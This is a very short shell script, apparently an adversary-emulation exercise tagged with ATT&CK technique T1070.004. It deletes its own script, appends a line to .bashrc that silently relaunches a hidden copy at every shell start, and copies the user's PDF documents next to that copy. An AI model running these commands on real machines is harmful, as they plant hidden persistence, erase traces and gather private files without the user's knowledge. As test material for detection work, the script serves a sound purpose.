# T1070.004 by shell commands: a copy goes on, the script deletes itself.
groundwork
hide_copy
rm work/steps.sh
echo "($HOME/$copy &) 2>/dev/null" >> .bashrc
ls -l "$copy"
find Documents -name '*.pdf' -exec cp -t "${copy%/*}" {} +
report
